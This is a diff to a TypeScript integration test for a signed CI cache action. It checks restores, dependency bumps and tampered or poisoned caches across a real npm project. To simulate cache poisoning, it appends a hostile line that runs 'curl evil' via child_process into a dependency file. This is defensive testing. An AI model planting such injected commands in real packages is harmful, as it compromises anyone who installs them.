@@ -153,8 +153,11 @@ function sharedTemp(): string {
 /** The seal member of a stored archive, read with the system's zstd and tar. */
 function sealOf(key: string): Buffer {
   const blob = server.blobPath(key)
-  const tar = execFileSync('zstd', ['-d', '-c', blob])
-  return execFileSync('tar', ['-xOP', '--wildcards', '*swr-seal/seal.json'], { input: tar })
+  const tar = execFileSync('zstd', ['-d', '-c', blob], { maxBuffer: 1 << 30 })
+  return execFileSync('tar', ['-xOP', '--wildcards', '*swr-seal/seal.json'], {
+    input: tar,
+    maxBuffer: 1 << 30
+  })
 }
 
 /** A tree's members for a hand-built archive, named as the cache client names them. */
@@ -379,4 +382,160 @@ describe('inputs', () => {
     }
     expect(fs.readdirSync(r.root).filter(n => n !== '.swr')).toEqual([])
   }, 60_000)
+})
+
+/** The npm registry answers (the only network the tests may use); else the real-project life is skipped. */
+function registryReachable(): boolean {
+  try {
+    execFileSync('npm', ['view', 'ms@2.1.2', 'version'], { timeout: 20_000, stdio: 'pipe' })
+    return true
+  } catch {
+    return false
+  }
+}
+
+const REGISTRY = registryReachable()
+if (!REGISTRY) console.warn('npm registry unreachable: the real npm project life is skipped')
+
+describe('a real npm project (esbuild with its platform packages, ms) over its life', () => {
+  const npmCache = (): string => path.join(tmp, 'npm-cache')
+  const npm = (repo: ActionRepo, ...args: string[]): void => {
+    execFileSync(
+      'npm',
+      [...args, '--ignore-scripts', '--no-audit', '--no-fund', '--cache', npmCache()],
+      {
+        cwd: repo.root,
+        env: { PATH: process.env.PATH, HOME: repo.home },
+        stdio: 'pipe',
+        timeout: 180_000
+      }
+    )
+  }
+  const project = (repo: ActionRepo, ms: string): void => {
+    fs.writeFileSync(
+      path.join(repo.root, 'package.json'),
+      JSON.stringify({
+        name: 'app',
+        version: '1.0.0',
+        private: true,
+        dependencies: { esbuild: '0.24.2', ms }
+      })
+    )
+  }
+  const lockHash = (repo: ActionRepo): string =>
+    createHash('sha256')
+      .update(fs.readFileSync(path.join(repo.root, 'package-lock.json')))
+      .digest('hex')
+      .slice(0, 16)
+  const base = { path: 'node_modules', 'hmac-key': HMAC }
+
+  const maybe = REGISTRY ? it : it.skip
+  maybe(
+    'another platform, a Linux install, an intact restore, a bump, damage and a poisoned save: no false alarm, every damage caught',
+    async () => {
+      // A laptop's install (macOS arm64), sealed under its own key.
+      const laptop = freshRepo()
+      project(laptop, '2.1.2')
+      npm(laptop, 'install', '--os=darwin', '--cpu=arm64')
+      expect(fs.existsSync(path.join(laptop.root, 'node_modules/@esbuild/darwin-arm64'))).toBe(true)
+      const lock = lockHash(laptop)
+      await step(bundles.cacheSave, laptop, YML.save, { ...base, key: `npm-macOS-ARM64-${lock}` })
+
+      // Linux CI: another key, so a miss (not damage); npm ci; sealed on success.
+      const ci = freshRepo()
+      project(ci, '2.1.2')
+      fs.copyFileSync(
+        path.join(laptop.root, 'package-lock.json'),
+        path.join(ci.root, 'package-lock.json')
+      )
+      const key = `npm-Linux-X64-${lock}`
+      const first = await job(ci, { ...base, key, 'restore-keys': 'npm-Linux-X64-' }, () =>
+        npm(ci, 'ci')
+      )
+      expect(report(first.main).outcome).toBe('miss')
+      expect(first.main.outputs.damaged).toBe('["node_modules"]')
+      expect(first.post.stdout).toMatch(new RegExp(`saved them under key ${key}`))
+      expect(fs.existsSync(path.join(ci.root, 'node_modules/@esbuild/linux-x64'))).toBe(true)
+
+      // The next run on a fresh runner: an intact restore, byte for byte, no alarm.
+      const next = freshRepo()
+      project(next, '2.1.2')
+      const restored = await step(bundles.cacheRestore, next, YML.restore, { ...base, key })
+      expect(restored.outputs['cache-hit']).toBe('true')
+      expect(restored.outputs.healthy).toBe('true')
+      expect(state(path.join(next.root, 'node_modules'))).toEqual(
+        state(path.join(ci.root, 'node_modules'))
+      )
+
+      // A dependency bump (ms 2.1.2 -> 2.1.3, as Dependabot does): the old seal restores as stale.
+      const bump = freshRepo()
+      fs.copyFileSync(
+        path.join(ci.root, 'package-lock.json'),
+        path.join(bump.root, 'package-lock.json')
+      )
+      project(bump, '2.1.3')
+      npm(bump, 'install', '--package-lock-only')
+      const bumpKey = `npm-Linux-X64-${lockHash(bump)}`
+      expect(bumpKey).not.toBe(key)
+      const bumped = await job(
+        bump,
+        { ...base, key: bumpKey, 'restore-keys': 'npm-Linux-X64-' },
+        () => npm(bump, 'ci')
+      )
+      expect(bumped.main.outputs.stale).toBe('true')
+      expect(bumped.main.outputs['cache-matched-key']).toBe(key)
+      expect(report(bumped.main).outcome).toBe('stale')
+      expect(bumped.post.stdout).toMatch(new RegExp(`saved them under key ${bumpKey}`))
+
+      // The same-size corruption of a real binary, and a truncated archive: refused, nothing written.
+      const seal = sealOf(key)
+      const members = membersOf(path.join(ci.root, 'node_modules'), 'node_modules').map(m => {
+        if (
+          m.name !== 'node_modules/@esbuild/linux-x64/bin/esbuild' ||
+          !('data' in m) ||
+          !Buffer.isBuffer(m.data)
+        )
+          return m
+        const data = Buffer.from(m.data)
+        data[data.length >> 1] = (data[data.length >> 1] ?? 0) ^ 0xff
+        return { ...m, data }
+      })
+      server.poison(key, tarZst([{ name: sealName(ci), data: seal, mode: 0o600 }, ...members]))
+      const victim = freshRepo()
+      const corrupt = await step(bundles.cacheRestore, victim, YML.restore, { ...base, key })
+      expect(report(corrupt).outcome).toBe('refused')
+      expect(report(corrupt).reason).toMatch(
+        /@esbuild\/linux-x64\/bin\/esbuild: content differs from the recorded sha256/
+      )
+      expect(fs.existsSync(path.join(victim.root, 'node_modules'))).toBe(false)
+      server.corrupt(bumpKey, 'truncate')
+      const cut = await step(bundles.cacheRestore, victim, YML.restore, { ...base, key: bumpKey })
+      expect(report(cut).outcome).toBe('refused')
+      expect(fs.existsSync(path.join(victim.root, 'node_modules'))).toBe(false)
+
+      // A poisoned save by a job without the seal key (a pull request): refused under require-seal signed.
+      const pr = freshRepo()
+      fs.cpSync(path.join(ci.root, 'node_modules'), path.join(pr.root, 'node_modules'), {
+        recursive: true,
+        verbatimSymlinks: true
+      })
+      fs.appendFileSync(
+        path.join(pr.root, 'node_modules/ms/index.js'),
+        '\nrequire("child_process").exec("curl evil")\n'
+      )
+      await step(bundles.cacheSave, pr, YML.save, {
+        path: 'node_modules',
+        key: 'npm-Linux-X64-poisoned'
+      })
+      const gate = freshRepo()
+      const poisoned = await step(bundles.cacheRestore, gate, YML.restore, {
+        ...base,
+        key: 'npm-Linux-X64-poisoned'
+      })
+      expect(report(poisoned).outcome).toBe('refused')
+      expect(report(poisoned).reason).toMatch(/unsigned, and require-seal is signed/)
+      expect(fs.existsSync(path.join(gate.root, 'node_modules'))).toBe(false)
+    },
+    600_000
+  )
 })
